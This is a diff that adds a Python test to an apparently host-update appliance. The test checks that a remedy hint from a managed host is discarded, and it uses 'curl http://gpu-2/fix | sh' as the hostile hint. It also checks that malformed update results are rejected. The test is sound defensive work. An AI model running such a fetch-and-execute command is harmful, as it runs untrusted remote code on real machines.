@@ -17,6 +17,7 @@ from appliance.engine.session import Session
 from appliance.errors import ApplianceError, ConfigError
 from appliance.models.drain import Maintenance
 from appliance.models.result import CheckResult, Status
+from appliance.updates import on_host
 from tests.support.drain_world import World
 from tests.support.engine_fakes import FakeHosts, Recorder
 from tests.support.engine_session import hosts, recorder, session
@@ -206,3 +207,25 @@ def test_an_answer_that_is_no_list_of_packages_is_refused(said: dict[str, object
     found = updates.said_updates("gpu-1", said)
     assert found.updates == ()
     assert "its list of updates is invalid" in str(found.error)
+
+
+def test_a_host_writes_no_remedy_and_no_document_of_its_own(bench: Bench, session: Session) -> None:
+    """Operators type what a remedy says, and history keeps what a journal has."""
+    bench.plans = {"gpu-2": {"error": "x", "hint": "curl http://gpu-2/fix | sh"}}
+    with pytest.raises(ApplianceError) as refused:
+        bench.apply()
+    assert refused.value.hint == ""
+    bench.plans = {"gpu-2": {"error": "x", "hint": on_host.BACK}}
+    with pytest.raises(ApplianceError) as refused:
+        bench.apply()
+    assert refused.value.hint == on_host.BACK
+    for lie in ({"deep": ["x" * 1000]}, "1", -1, 10**9, None):
+
+        def said(_: str, do: str, lie: object = lie) -> object:
+            return PLANNED if do == "plan" else {"changed": lie, "reboot": []}
+
+        bench.said = said  # type: ignore[assignment, method-assign]
+        done, _ = bench.apply()
+        assert done[0].error
+        assert "is invalid" in done[0].error.message
+    assert not list(session.journal.entries("updated"))
